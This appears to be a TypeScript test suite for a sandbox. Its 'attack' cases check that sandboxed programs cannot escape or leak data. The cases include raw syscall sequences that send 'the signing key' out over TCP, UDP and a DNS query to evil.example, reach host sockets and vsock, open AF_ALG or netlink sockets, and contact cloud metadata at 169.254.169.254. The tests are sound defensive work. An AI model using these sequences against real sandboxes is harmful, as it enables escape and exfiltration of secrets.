import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { connect, createServer, type AddressInfo } from 'node:net'
import { test } from 'node:test'

import {
  abstractAddress,
  ipv4Address,
  ipv6Address,
  vsockAddress,
} from '../../src/worker/cell/socket-address.ts'
import { attack, run, type AttackRun, type Place } from './harness.ts'

const filter = ['system-call-filter'] as const
const loot = 'the signing key'

attack('a service of the host on its loopback address cannot be reached', async (place) => {
  const { port, heard } = await listenTcp(place)
  return {
    without: ['network-namespace'],
    calls: (program) => {
      const socket = program.call('socket', 2, 1, 0)
      const address = ipv4Address('127.0.0.1', port)
      const connected = program.call('connect', socket, program.bytes(address), address.length)
      const bytes = program.text(loot)
      program.call('write', socket, bytes, bytes.size)
      return ({ result }) => result(connected) === 0
    },
    worked: ({ log }) => log === 'BREACH' && heard().includes(loot),
  }
})

attack('nothing leaves by UDP', async (place) => {
  const { port, heard } = await listenUdp(place)
  return {
    without: ['network-namespace'],
    calls: (program) => {
      const socket = program.call('socket', 2, 2, 0)
      const address = ipv4Address('127.0.0.1', port)
      const bytes = program.text(loot)
      const to = program.bytes(address)
      program.call('sendto', socket, bytes, bytes.size, 0, to, address.length)
      return () => true
    },
    // The datagram was sent long before the step was over, and loopback does not lose it.
    worked: () => heard().includes(loot),
  }
})

attack('nothing leaves in the name of a DNS query', async (place) => {
  const { port, heard } = await listenUdp(place)
  const name = Buffer.from('\x08c2lnbmlu\x04evil\x07example\0', 'latin1')
  const query = Buffer.concat([
    Buffer.from('123401000001000000000000', 'hex'),
    name,
    Buffer.from('00010001', 'hex'),
  ])
  return {
    without: ['network-namespace'],
    calls: (program) => {
      for (const to of [ipv4Address('127.0.0.1', port), ipv4Address('127.0.0.1', 53)]) {
        const socket = program.call('socket', 2, 2, 0)
        const message = program.bytes(query)
        program.call('sendto', socket, message, query.length, 0, program.bytes(to), to.length)
      }
      return () => true
    },
    worked: () => heard().includes('c2lnbmlu'),
    contained: ({ report }) =>
      assert.deepEqual(
        report?.network.attempts.filter(({ protocol }) => protocol === 'dns'),
        [{ protocol: 'dns', name: 'c2lnbmlu.evil.example', count: 1 }],
      ),
  }
})

attack('an abstract Unix socket of the host cannot be reached', async (place) => {
  const name = `hostile-${process.pid}-${Math.trunc(performance.now())}`
  let reached = 0
  const server = createServer((socket) => {
    reached += 1
    socket.destroy()
  })
  server.listen({ path: `\0${name}` })
  await once(server, 'listening')
  place.after(() => server.close())
  return {
    without: ['network-namespace'],
    calls: (program) => {
      const socket = program.call('socket', 1, 1, 0)
      const address = abstractAddress(name)
      const connected = program.call('connect', socket, program.bytes(address), address.length)
      return ({ result }) => result(connected) === 0
    },
    worked: ({ log }) => log === 'BREACH' && reached > 0,
  }
})

attack('nobody on the host can talk to a listening command (remote influence)', () => {
  const port = 20_000 + (process.pid % 10_000)
  let answered = false
  return {
    without: ['network-namespace'],
    calls: (program) => {
      const socket = program.call('socket', 2, 1, 0)
      const address = ipv4Address('0.0.0.0', port)
      program.call('bind', socket, program.bytes(address), address.length)
      program.call('listen', socket, 8)
      // 600 ms
      const pause = program.bytes(Buffer.from('00000000000000000046c32300000000', 'hex'))
      program.call('nanosleep', pause, 0)
      return () => true
    },
    meanwhile: async (ran) => {
      answered = await reachableWhile(ran, port)
    },
    worked: () => answered,
  }
})

attack('the hypervisor cannot be reached over vsock', () => ({
  without: filter,
  calls: (program) => {
    const socket = program.call('socket', 40, 1, 0)
    const address = vsockAddress(2, 1024)
    program.call('connect', socket, program.bytes(address), address.length)
    return ({ result }) => result(socket) >= 0
  },
  mayBeImpossible: 'the kernel has no AF_VSOCK',
}))

attack('kernel crypto sockets (AF_ALG) cannot be opened', () => ({
  without: filter,
  calls: (program) => {
    const socket = program.call('socket', 38, 5, 0)
    return ({ result }) => result(socket) >= 0
  },
  mayBeImpossible: 'the kernel has no AF_ALG',
}))

attack('netlink to anything but routes (netfilter, audit, crypto) cannot be opened', () => ({
  without: filter,
  calls: (program) => {
    const sockets = [6, 9, 12, 15, 16, 21].map((protocol) =>
      program.call('socket', 16, 3, protocol),
    )
    return ({ result }) => sockets.some((socket) => result(socket) >= 0)
  },
}))

attack(
  'a protocol whose name loads a kernel module (SCTP, MPTCP, L2TP) cannot be asked for',
  () => ({
    without: filter,
    calls: (program) => {
      const sockets = [132, 262, 115, 136].map((protocol) =>
        program.call('socket', 2, protocol === 136 ? 2 : 1, protocol),
      )
      return ({ result }) => sockets.some((socket) => result(socket) >= 0)
    },
    mayBeImpossible: 'the kernel has none of these protocols',
  }),
)

test('every attempt to get out is refused at once and recorded, by every protocol', async () => {
  const { report } = await run({
    without: [],
    calls: (program) => {
      const tcp = (address: Uint8Array, family: number) => {
        const socket = program.call('socket', family, 1, 0)
        return program.call('connect', socket, program.bytes(address), address.length)
      }
      const six = Uint8Array.of(0x20, 1, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1)
      tcp(ipv4Address('169.254.169.254', 80), 2)
      tcp(ipv4Address('198.51.100.7', 443), 2)
      tcp(ipv4Address('198.51.100.7', 443), 2)
      tcp(ipv6Address(six, 443), 10)
      const udp = program.call('socket', 2, 2, 0)
      const far = ipv4Address('203.0.113.9', 4500)
      program.call('sendto', udp, program.text('x'), 1, 0, program.bytes(far), far.length)
      return () => true
    },
  })
  assert.deepEqual(report?.network, {
    mode: 'recorded',
    attempts: [
      { protocol: 'tcp', address: '169.254.169.254', port: 80, count: 1 },
      { protocol: 'tcp', address: '198.51.100.7', port: 443, count: 2 },
      { protocol: 'tcp', address: '2001:db8::1', port: 443, count: 1 },
      { protocol: 'udp', address: '203.0.113.9', port: 4500, count: 1 },
    ],
    truncated: false,
  })
})

test('more destinations than can be listed are said to be more', async () => {
  const { report } = await run({
    without: [],
    calls: (program) => {
      const udp = program.call('socket', 2, 2, 0)
      const byte = program.text('x')
      for (let index = 0; index < 1200; index += 1) {
        const to = ipv4Address(`198.51.${index >> 8}.${index & 0xff}`, 9)
        program.call('sendto', udp, byte, 1, 0, program.bytes(to), to.length)
      }
      return () => true
    },
  })
  assert.equal(report?.network.truncated, true)
  assert.ok((report?.network.attempts.length ?? 0) >= 1000)
})

async function listenTcp(place: Place): Promise<{ port: number; heard: () => string }> {
  let text = ''
  const server = createServer((socket) => {
    socket.on('error', () => {})
    socket.on('data', (chunk) => (text += chunk.toString('latin1')))
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  place.after(() => server.close())
  return { port: (server.address() as AddressInfo).port, heard: () => text }
}

async function listenUdp(place: Place): Promise<{ port: number; heard: () => string }> {
  let text = ''
  const socket = createSocket('udp4')
  socket.on('message', (message) => (text += message.toString('latin1')))
  socket.bind(0, '127.0.0.1')
  await once(socket, 'listening')
  place.after(() => socket.close())
  return { port: socket.address().port, heard: () => text }
}

/** Tries again and again until the step is over or somebody answers. */
async function reachableWhile(ran: Promise<AttackRun>, port: number): Promise<boolean> {
  const over = ran.then(() => 'over' as const)
  for (;;) {
    const answer = await Promise.race([over, knock(port)])
    if (answer !== 'silence') return answer === 'answered'
  }
}

function knock(port: number): Promise<'answered' | 'silence'> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.destroy()
      resolve('answered')
    })
    socket.on('error', () => setImmediate(() => resolve('silence')))
  })
}
